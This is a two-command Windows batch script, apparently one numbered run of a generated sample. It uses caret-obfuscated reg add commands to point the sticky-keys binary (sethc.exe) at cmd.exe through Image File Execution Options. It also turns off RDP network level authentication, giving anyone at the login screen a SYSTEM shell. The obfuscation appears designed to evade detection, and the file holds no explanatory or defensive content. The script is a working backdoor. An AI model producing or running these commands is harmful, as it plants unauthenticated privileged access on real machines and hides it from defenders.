REM run 5286 v0
^r^eg ^a^dd "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /^v De^bu^gge^r /t ^RE^G_^SZ /d "C:\windows\system32\cmd.exe" /f
^re^g ^ad^d "HKLM\System\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /v Us^erAu^th^enti^c^ati^on /^t ^R^EG_DW^O^RD /d 0 /f
